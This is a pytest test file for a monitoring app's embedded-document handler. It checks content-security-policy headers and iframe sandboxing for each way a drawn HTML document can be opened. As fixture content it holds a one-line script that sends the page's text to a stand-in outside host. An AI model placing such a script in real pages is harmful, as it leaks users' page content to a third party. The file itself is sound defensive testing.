"""A drawn document that is opened alone cannot lead its window elsewhere with what it read."""

from __future__ import annotations

from typing import Any

import mlops_ui_app
import pytest
from fastapi import Request

from monitoring.pages import embedded
from monitoring.pages.embedded import DRAWN, FRAMED, HTML, STILL, Document

ADDRESS = "/nightfleet/embedded/m/2024-02-15/drift.html"


@pytest.mark.parametrize(
    ("opened_as", "policy"),
    [("iframe", DRAWN), ("document", FRAMED), ("object", FRAMED), ("embed", FRAMED), (None, STILL)],
)
def test_a_drawn_document_runs_in_a_frame_alone(
    monkeypatch: pytest.MonkeyPatch, opened_as: str | None, policy: str
) -> None:
    content = b"<script>location = 'https://elsewhere.example/?' + document.body.innerText</script>"
    monkeypatch.setattr(embedded, "document", lambda context, path: Document(content, HTML, DRAWN))
    headers = [(b"sec-fetch-dest", opened_as.encode())] if opened_as else []
    scope = {"type": "http", "path": ADDRESS, "headers": headers, "query_string": b"", "server": ("h", 80)}
    context: Any = None
    answer = mlops_ui_app._embedded(Request(scope), "m/2024-02-15/drift.html", context)
    assert answer.headers["content-security-policy"] == policy
    assert answer.headers["vary"] == "sec-fetch-dest"
    if policy == FRAMED:
        assert b"elsewhere" not in answer.body
        assert f'<iframe sandbox="allow-scripts" src="{ADDRESS}"'.encode() in answer.body
        # What holds the frame where it is.
        assert "frame-src 'self'" in policy
        assert "script-src" not in policy
        assert "default-src 'none'" in policy
    else:
        assert bytes(answer.body) == content
